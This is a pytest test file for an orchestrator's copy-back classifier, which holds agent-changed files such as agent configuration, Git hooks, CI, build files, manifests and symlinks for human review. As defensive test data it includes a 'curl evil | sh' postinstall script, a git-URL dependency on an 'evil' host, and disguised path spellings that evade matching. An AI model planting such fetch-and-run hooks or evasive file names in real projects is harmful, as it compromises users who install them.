"""The copy-back classifier: which changed paths are held for a person's say, and why."""

from __future__ import annotations

import json

import pytest

from orchestrator._config import Config, hold_globs, load_config
from orchestrator._errors import UsageError
from orchestrator.workspace._quarantine import BUILTIN, HoldRules, matches

FILE, EXE, LINK = 0o100644, 0o100755, 0o120000


def why(path, old=FILE, new=FILE, before=b"", after=b"", *, rules=None):
    return (rules or HoldRules()).why(path, old, new, lambda: before, lambda: after)


HELD = [
    # agent and MCP configuration of every parent fleet supports, at any depth
    (".claude/settings.json", "agent configuration"),
    (".claude/commands/deploy.md", "agent configuration"),
    ("sub/project/.claude/settings.local.json", "agent configuration"),
    (".mcp.json", "agent configuration"),
    (".codex/config.toml", "agent configuration"),
    (".gemini/settings.json", "agent configuration"),
    (".agents/skills/x/SKILL.md", "agent configuration"),
    (".pi/settings.json", "agent configuration"),
    ("opencode.json", "agent configuration"),
    ("opencode.jsonc", "agent configuration"),
    (".opencode/plugin/evil.ts", "agent configuration"),
    (".cursor/rules/a.mdc", "agent configuration"),
    (".cursorrules", "agent configuration"),
    (".github/copilot-instructions.md", "agent configuration"),
    (".fleet/agents/worker.md", "agent configuration"),
    (".fleet/roles.yaml", "agent configuration"),
    ("AGENTS.md", "agent instructions"),
    ("docs/deep/AGENTS.md", "agent instructions"),
    ("CLAUDE.md", "agent instructions"),
    ("pkg/claude.md", "agent instructions"),  # case-folding file systems read it too
    ("GEMINI.md", "agent instructions"),
    ("AGENTS.override.md", "agent instructions"),
    # Git attributes, modules, hooks managers
    (".gitattributes", "Git configuration"),
    ("src/.gitattributes", "Git configuration"),
    (".gitmodules", "Git configuration"),
    (".husky/pre-commit", "Git configuration"),
    (".pre-commit-config.yaml", "Git configuration"),
    ("lefthook.yml", "Git configuration"),
    (".lintstagedrc.json", "Git configuration"),
    (".githooks/post-checkout", "Git configuration"),
    # direnv and env files
    (".envrc", "environment file"),
    (".env", "environment file"),
    (".env.local", "environment file"),
    ("services/api/.env.production", "environment file"),
    (".mise.toml", "tool-version manager"),
    # editor folders
    (".vscode/tasks.json", "editor settings"),
    (".vscode/settings.json", "editor settings"),
    (".idea/workspace.xml", "editor settings"),
    (".devcontainer/devcontainer.json", "editor settings"),
    ("team.code-workspace", "editor settings"),
    (".exrc", "editor settings"),
    ("web/eslint.config.mjs", "editor settings"),
    (".prettierrc.cjs", "editor settings"),
    # CI
    (".github/workflows/ci.yml", "CI configuration"),
    (".github/actions/setup/action.yml", "CI configuration"),
    (".gitlab-ci.yml", "CI configuration"),
    (".circleci/config.yml", "CI configuration"),
    ("Jenkinsfile", "CI configuration"),
    # build files and test bootstraps
    ("Makefile", "build file"),
    ("lib/rules.mk", "build file"),
    ("setup.py", "build file"),
    ("setup.cfg", "build file"),
    ("conftest.py", "build file"),
    ("tests/unit/conftest.py", "build file"),
    ("noxfile.py", "build file"),
    ("tox.ini", "build file"),
    ("pytest.ini", "build file"),
    ("sitecustomize.py", "build file"),
    ("CMakeLists.txt", "build file"),
    ("build.rs", "build file"),
    ("gradle/wrapper/gradle-wrapper.properties", "build file"),
    ("pom.xml", "build file"),
    ("docker-compose.override.yml", "build file"),
    ("rust-toolchain.toml", "package manager"),
    ("go.mod", "package manager"),
    # package manager configuration and lock files
    (".npmrc", "package manager"),
    (".yarnrc.yml", "package manager"),
    ("package-lock.json", "package manager"),
    ("requirements-dev.txt", "package manager"),
    ("uv.lock", "package manager"),
    ("Cargo.toml", "package manager"),
]


@pytest.mark.parametrize(("path", "kind"), HELD)
@pytest.mark.parametrize(("old", "new"), [(None, FILE), (FILE, FILE), (FILE, None)])
def test_a_path_that_runs_later_is_held_when_added_changed_or_deleted(path, kind, old, new):
    reason = why(path, old, new)
    assert reason is not None
    assert reason.startswith(kind)


ORDINARY = [
    "src/app.py",
    "README.md",
    "docs/claude-notes.md",
    "tests/test_app.py",
    "src/environment.py",
    ".github/CODEOWNERS",
    ".gitignore",
    "claude/settings.json",  # no leading dot: not Claude Code's folder
    "lib/makefile_parser.py",
    "pkg/setup_helpers.py",
    "notes/.envelope.txt",
]


@pytest.mark.parametrize("path", ORDINARY)
def test_an_ordinary_file_lands(path):
    assert why(path, None, FILE) is None
    assert why(path, FILE, FILE) is None
    assert why(path, FILE, None) is None


def test_every_symlink_is_held_whatever_its_name():
    assert why("docs/link", None, LINK).startswith("symlink")
    assert why("src/app.py", FILE, LINK).startswith("symlink")


def test_a_file_that_becomes_executable_is_held_and_one_that_was_is_not():
    assert why("scripts/run", None, EXE).startswith("becomes executable")
    assert why("scripts/run", FILE, EXE).startswith("becomes executable")
    assert why("scripts/run", LINK, EXE).startswith("becomes executable")
    assert why("scripts/run", EXE, EXE) is None
    assert why("scripts/run", EXE, FILE) is None


PACKAGE = {"name": "app", "version": "1.0.0", "scripts": {"test": "jest"}}


@pytest.mark.parametrize(
    ("change", "held"),
    [
        ({"version": "1.0.1"}, None),
        ({"description": "an app", "keywords": ["x"]}, None),
        ({"scripts": {"test": "jest", "postinstall": "curl evil | sh"}}, "scripts"),
        ({"dependencies": {"left-pad": "1.0.0"}}, "dependencies"),
        ({"devDependencies": {"x": "git+https://evil/x"}}, "devDependencies"),
        ({"optionalDependencies": {"x": "1"}}, "optionalDependencies"),
        ({"overrides": {"x": "1"}}, "overrides"),
        ({"bin": {"app": "evil.js"}}, "bin"),
        ({"packageManager": "yarn@9"}, "packageManager"),
        ({"lint-staged": {"*": "sh evil"}}, "lint-staged"),
    ],
)
def test_package_json_is_held_when_scripts_or_dependencies_change(change, held):
    before = json.dumps(PACKAGE).encode()
    after = json.dumps(PACKAGE | change).encode()
    reason = why("package.json", FILE, FILE, before, after)
    if held is None:
        assert reason is None
    else:
        assert reason is not None
        assert held in reason
    # a nested workspace's manifest is judged the same
    assert why("packages/web/package.json", FILE, FILE, before, after) == reason


def test_a_manifest_is_judged_under_a_folded_spelling_of_its_name():
    after = json.dumps(PACKAGE | {"scripts": {"postinstall": "pwn"}}).encode()
    assert "scripts" in why("Package.JSON", FILE, FILE, json.dumps(PACKAGE).encode(), after)


def test_package_json_created_deleted_or_unparsable():
    assert why("package.json", None, FILE, after=b'{"name": "x"}') is None
    assert "scripts" in why("package.json", None, FILE, after=json.dumps(PACKAGE).encode())
    assert "scripts" in why("package.json", FILE, None, before=json.dumps(PACKAGE).encode())
    assert "does not parse" in why("package.json", FILE, FILE, b"{}", b"{not json")
    assert "does not parse" in why("package.json", FILE, FILE, b"{}", b"[1, 2]")
    assert "does not parse" in why("package.json", FILE, FILE, b"{}", b"\xff\xfe")


PYPROJECT = b"""
[project]
name = "app"
version = "1.0"
dependencies = ["attrs"]

[tool.ruff]
line-length = 100
"""


@pytest.mark.parametrize(
    ("after", "held"),
    [
        (PYPROJECT.replace(b'"1.0"', b'"1.1"'), None),
        (PYPROJECT.replace(b"100", b"120"), None),
        (PYPROJECT.replace(b'["attrs"]', b'["attrs", "evil"]'), "project.dependencies"),
        (PYPROJECT + b'[project.scripts]\nx = "evil:main"\n', "project.scripts"),
        (PYPROJECT + b'[build-system]\nrequires = ["evil"]\n', "build-system"),
        (PYPROJECT + b'[tool.pytest.ini_options]\naddopts = "-p evil"\n', "tool.pytest"),
        (PYPROJECT + b'[tool.hatch.build.hooks.custom]\npath = "x.py"\n', "tool.hatch"),
        (PYPROJECT + b'[dependency-groups]\ndev = ["evil"]\n', "dependency-groups"),
        (b"[project\nname=", "does not parse"),
        (b"project = 3\n", "project"),
    ],
)
def test_pyproject_is_held_when_build_entry_point_dependency_or_tool_sections_change(after, held):
    reason = why("pyproject.toml", FILE, FILE, PYPROJECT, after)
    if held is None:
        assert reason is None
    else:
        assert reason is not None
        assert held in reason


def test_a_manifest_symlink_is_judged_as_a_symlink_without_reading_it():
    def boom() -> bytes:
        raise AssertionError("read")

    reason = HoldRules().why("package.json", FILE, LINK, boom, boom)
    assert reason is not None
    assert reason.startswith("symlink")


def test_user_globs_extend_the_built_in_list_and_never_shorten_it():
    rules = HoldRules(extra=("scripts/*.sh", "/deploy/", "secrets"))
    assert why("scripts/go.sh", rules=rules) == "listed in copyback.hold (scripts/*.sh)"
    assert why("deploy/prod.yml", rules=rules) is not None
    assert why("app/deploy/prod.yml", rules=rules) is None  # anchored at the root
    assert why("a/secrets/key.txt", rules=rules) is not None
    assert why(".envrc", rules=rules).startswith("environment file")
    assert len(list(rules.patterns())) == len(BUILTIN) + 3


@pytest.mark.parametrize(
    ("pattern", "path", "expected"),
    [
        (".claude/", ".claude/settings.json", True),
        (".claude/", ".claude", False),  # a file named .claude is not the folder
        (".claude/", "a/.claude/x", True),
        (".mcp.json", "a/b/.mcp.json", True),
        (".mcp.json", "a/.mcp.json/x", True),  # a directory so named, and what is in it
        (".github/workflows/", ".github/workflows/ci.yml", True),
        (".github/workflows/", "x/.github/workflows/ci.yml", True),
        (".github/workflows/", ".github/ci.yml", False),
        ("/deploy/", "deploy/a", True),
        ("/deploy/", "x/deploy/a", False),
        ("**/gen/*.sh", "a/b/gen/x.sh", True),
        ("a/**/z", "a/z", True),
        ("a/**/z", "a/b/c/z", True),
        ("*.mk", "x.MK", True),
        (".env.*", ".env.local", True),
        (".env.*", ".environment", False),
        # spellings a Mac or Windows file system reads as the real name
        (".claude/", ".Claude\u200c/settings.json", True),
        (".envrc", ".envrc.", True),
        (".envrc", ".envrc ", True),
        (".mcp.json", ".mcp.json:stream", True),
        ("AGENTS.md", "a/AGENTS.md\ufeff", True),
    ],
)
def test_glob_matching(pattern, path, expected):
    assert matches(pattern, path) is expected


@pytest.mark.parametrize("bad", ["*.sh", [""], ["/"], [3], {"a": 1}])
def test_copyback_hold_must_be_a_list_of_globs(bad):
    with pytest.raises(UsageError, match=r"copyback\.hold"):
        hold_globs(bad)


def test_config_reads_copyback_hold_from_config_yaml(tmp_path):
    (tmp_path / "config.yaml").write_text("copyback:\n  hold: ['deploy/', '*.sh']\n")
    config = load_config(home=tmp_path, cwd=tmp_path)
    assert config.copyback_hold == ("deploy/", "*.sh")
    (tmp_path / "config.yaml").write_text("copyback:\n  unhold: ['.envrc']\n")
    with pytest.raises(UsageError, match="copyback"):
        load_config(home=tmp_path, cwd=tmp_path)
    assert Config(home=tmp_path, session="s", workspace=tmp_path).copyback_hold == ()
